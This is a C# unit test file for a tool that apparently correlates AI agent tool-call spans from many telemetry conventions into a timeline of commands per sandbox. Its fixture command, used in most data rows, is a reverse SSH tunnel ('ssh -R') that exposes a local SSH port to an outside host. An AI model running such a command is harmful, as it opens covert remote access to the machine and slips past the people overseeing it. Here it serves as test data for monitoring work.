// SPDX-License-Identifier: Apache-2.0
using FwCorrelate.Timelines;
using static FwCorrelate.Ingestion.Tests.Otlp.Spans;

namespace FwCorrelate.Ingestion.Tests.Otlp;

/// <summary>Which spans are tool calls, and where their names, ids and arguments stand.</summary>
[TestClass]
public sealed class SpanConventionTests
{
    private const string Arguments = """{"command":"ssh -R 2222:localhost:22 u@203.0.113.7"}""";
    private const string Command = "ssh -R 2222:localhost:22 u@203.0.113.7";

    [TestMethod]
    [DataRow("tools/call bash", "mcp.method.name=tools/call|gen_ai.tool.name=bash|gen_ai.tool.call.arguments={args}", DisplayName = "MCP client")]
    [DataRow("bash", "mcp.method.name=tools/call|gen_ai.tool.name=bash|gen_ai.tool.call.arguments={args}", DisplayName = "MCP, another span name")]
    [DataRow("tools/call bash", "gen_ai.tool.call.arguments={args}", DisplayName = "MCP by the span's name")]
    [DataRow("any", "rpc.method=tools/call|mcp.tool.name=bash|mcp.request.params={params}", DisplayName = "MCP as RPC")]
    [DataRow("any", "gen_ai.tool.name=bash|gen_ai.tool.call.arguments={args}", DisplayName = "name and arguments and nothing else")]
    [DataRow("ai.toolCall", "ai.toolCall.name=bash|ai.toolCall.id=call_1|ai.toolCall.args={args}", DisplayName = "Vercel AI SDK")]
    [DataRow("any", "operation.name=ai.toolCall agent|ai.toolCall.name=bash|ai.toolCall.args={args}", DisplayName = "Vercel AI SDK by its operation")]
    [DataRow("Tool.execute", "tool.name=bash|tool.call_id=call_1|tool.arguments={args}", DisplayName = "opencode")]
    [DataRow("bash.tool", "traceloop.span.kind=tool|traceloop.entity.name=bash|traceloop.entity.input={inputs}", DisplayName = "OpenLLMetry")]
    [DataRow("bash", "gen_ai.span.kind=TOOL|tool.name=bash|tool.parameters={args}", DisplayName = "Alibaba Cloud")]
    [DataRow("bash", "openinference.span.kind=TOOL|tool.name=bash|input.value={args}", DisplayName = "OpenInference")]
    [DataRow("bash", "langfuse.observation.type=tool|tool.name=bash|langfuse.observation.input={args}", DisplayName = "Langfuse")]
    [DataRow("bash", "mlflow.spanType=\"TOOL\"|tool_name=bash|mlflow.spanInputs={args}", DisplayName = "MLflow")]
    [DataRow("bash", "langsmith.span.kind=tool|tool_name=bash|gen_ai.prompt={args}", DisplayName = "LangSmith")]
    [DataRow("claude_code.tool", "span.type=tool|tool_name=bash|full_command=ssh -R 2222:localhost:22 u@203.0.113.7", DisplayName = "Claude Code")]
    [DataRow("running tool", "gen_ai.tool.name=bash|gen_ai.tool.call.id=call_1|tool_arguments={args}", DisplayName = "pydantic-ai")]
    [DataRow("execute_tool bash", "gen_ai.tool.name=bash|gcp.vertex.agent.tool_call_args={args}", DisplayName = "Google ADK")]
    [DataRow("function_tool", "lk.function_tool.name=bash|lk.function_tool.id=call_1|lk.function_tool.arguments={args}", DisplayName = "LiveKit")]
    [DataRow("tool_call", "gen_ai.operation.name=tool_call|gen_ai.tool.name=bash|gen_ai.tool.call.arguments={args}", DisplayName = "Gemini CLI")]
    public void Read_AConvention_IsACallWithItsCommand(string name, string attributes)
    {
        var timeline = Read(Tool("b1", "", name, [.. attributes.Split('|').Select(Attribute), ("sandbox.id", "sb-1")]));

        var call = timeline.Calls.Single();
        Assert.AreEqual((Command, "sb-1"), (call.Command, call.SandboxId));
        if (attributes.Contains("bash", StringComparison.Ordinal) || name.Contains("bash", StringComparison.Ordinal))
            Assert.AreEqual("bash", call.ToolName);
        Assert.IsEmpty(timeline.Gaps);
    }

    [TestMethod]
    public void Read_ArgumentsAsAKeyValueList_HasTheCommand()
    {
        const string nested = """{"kvlistValue":{"values":[{"key":"call","value":{"kvlistValue":{"values":[{"key":"id","value":{"stringValue":"call_7"}},{"key":"arguments","value":{"kvlistValue":{"values":[{"key":"command","value":{"arrayValue":{"values":[{"stringValue":"ls"},{"stringValue":"-l"}]}}}]}}}]}}},{"key":"name","value":{"stringValue":"bash"}}]}}""";
        var span = Tool("b1", "", "execute_tool bash", ("gen_ai.tool", "x")).Replace("""{"stringValue":"x"}""", nested, StringComparison.Ordinal);

        var call = Read(span).Calls.Single();

        Assert.AreEqual(("call_7", "bash", "ls -l"), (call.CallId, call.ToolName, call.Command));
    }

    [TestMethod]
    public void Read_ArgumentsFlattenedByTheExporter_HasTheCommand() =>
        Assert.AreEqual("ls", Read(Tool("b1", "", "execute_tool bash", ("gen_ai.tool.call.arguments.command", "ls"), ("gen_ai.tool.call.arguments.timeout", "3"))).Calls.Single().Command);

    [TestMethod]
    [DataRow("""{"name":"gen_ai.tool.message","attributes":[{"key":"content","value":{"stringValue":"{\"command\":\"ls\"}"}}]}""")]
    [DataRow("""{"name":"call","attributes":[{"key":"gen_ai.tool.call.arguments","value":{"stringValue":"{\"command\":\"ls\"}"}}]}""")]
    [DataRow("""{"name":"gen_ai.client.inference.operation.details","attributes":[{"key":"gen_ai.input.messages","value":{"stringValue":"[{\"parts\":[{\"type\":\"tool_call\",\"name\":\"bash\",\"arguments\":{\"command\":\"ls\"}}]}]"}}]}""")]
    public void Read_ArgumentsInAnEvent_HasTheCommand(string item)
    {
        var span = Tool("b1", "", "execute_tool bash");
        Assert.AreEqual("ls", Read($"{span[..^1]},\"events\":[{item}]}}").Calls.Single().Command);
    }

    [TestMethod]
    public void Read_ArgumentsOnlyInTheMessageThatAsked_HasTheCommand()
    {
        var timeline = Read(
            Turn("a1", """[{"role":"assistant","parts":[{"type":"tool_call","id":"call_1","name":"bash","arguments":{"command":"ls"}}]}]"""),
            Tool("b1", "", "execute_tool bash", ("gen_ai.tool.call.id", "call_1")));

        Assert.AreEqual("ls", timeline.Calls.Single().Command);
    }

    [TestMethod]
    [DataRow("""{"Value":{"StringValue":"bash"}}""", DisplayName = "protobuf structs marshalled by Go")]
    [DataRow("""{"string_value":"bash"}""")]
    public void Read_AValueWrappedTwice_IsTheValue(string value)
    {
        var span = Tool("b1", "", "execute_tool", ("gen_ai.tool.name", "x")).Replace("""{"stringValue":"x"}""", value, StringComparison.Ordinal);
        Assert.AreEqual("bash", Read(span).Calls.Single().ToolName);
    }

    [TestMethod]
    [DataRow("""{"text":"bash"}""")]
    [DataRow("""{"stringValue":{"a":1}}""")]
    [DataRow("""{"kvlistValue":{"values":[]}}""")]
    public void Read_AnIdOfUnknownShape_IsLeftOutAndTold(string value)
    {
        var span = Tool("b1", "", "execute_tool", ("sandbox.id", "x")).Replace("""{"stringValue":"x"}""", value, StringComparison.Ordinal);

        var reading = Reading.Timeline(Request(span));

        Assert.IsNull(reading.Timeline.Calls.Single().SandboxId);
        StringAssert.Contains(reading.Rejected.Single().Reason, "sandbox.id is '");
    }

    [TestMethod]
    [DataRow("tools/list", "mcp.method.name=tools/list")]
    [DataRow("chat m", "gen_ai.operation.name=chat|gen_ai.tool.name=bash")]
    [DataRow("GET /tools", "http.request.method=GET")]
    [DataRow("tools.task", "traceloop.span.kind=task|traceloop.entity.name=tools")]
    public void Read_WhatIsKnownToBeNoCall_IsNone(string name, string attributes)
    {
        var timeline = Read(Tool("b1", "", name, [.. attributes.Split('|').Select(Attribute)]));
        Assert.IsEmpty(timeline.Calls);
        Assert.IsEmpty(timeline.Gaps);
    }

    [TestMethod]
    [DataRow("work", "gen_ai.tool.call.id=c1", "call id")]
    [DataRow("work", "gen_ai.tool.name=bash", "tool's name")]
    [DataRow("dispatch_tool_call", "", "named like a tool call")]
    [DataRow("exec", "process.command_line=ls", "command that was run")]
    public void Read_WhatLooksLikeACall_IsToldWithItsReason(string name, string attributes, string reason)
    {
        var timeline = Read(
            Turn("a1", """[{"role":"assistant","parts":[{"type":"text"}]}]"""),
            Tool("b1", "", name, [.. attributes.Split('|', StringSplitOptions.RemoveEmptyEntries).Select(Attribute), ("sandbox.id", "sb-1")]));

        Assert.IsEmpty(timeline.Calls);
        var gap = timeline.Gaps.Single();
        Assert.AreEqual((TraceGapKind.SpanNotTaken, "sb-1"), (gap.Kind, gap.SandboxId));
        StringAssert.Contains(gap.Reason, reason);
        Assert.AreEqual(0, timeline.Episodes.Single().TraceCoverage);
    }

    [TestMethod]
    public void Read_PartsOfACallAndWhatHoldsCalls_AreNoMissedCalls()
    {
        var timeline = Read(
            Tool("a1", "", "running tools", ("gen_ai.tool.name", "several")),
            Tool("b1", "a1", "execute_tool bash"),
            Tool("c1", "b1", "tool.sandbox", ("process.command_line", "ls")));

        Assert.HasCount(1, timeline.Calls);
        Assert.IsEmpty(timeline.Gaps);
    }

    [TestMethod]
    public void Read_ToolOfAnAgentBelowACall_IsAMissedCall()
    {
        var timeline = Read(
            Tool("a1", "", "execute_tool delegate", ("gen_ai.tool.name", "delegate")),
            Tool("b1", "a1", "invoke_agent helper", ("gen_ai.operation.name", "invoke_agent")),
            Tool("c1", "b1", "some tool"));

        Assert.HasCount(1, timeline.Calls);
        Assert.AreEqual(TraceGapKind.SpanNotTaken, timeline.Gaps.Single().Kind);
    }

    private static (string Key, string Value) Attribute(string text)
    {
        var parts = text.Split('=', 2);
        return (parts[0], parts[1].Replace("{args}", Arguments, StringComparison.Ordinal)
            .Replace("{params}", $$"""{"name":"bash","arguments":{{Arguments}}}""", StringComparison.Ordinal)
            .Replace("{inputs}", $$"""{"inputs":{{Arguments}},"tags":[]}""", StringComparison.Ordinal));
    }
}
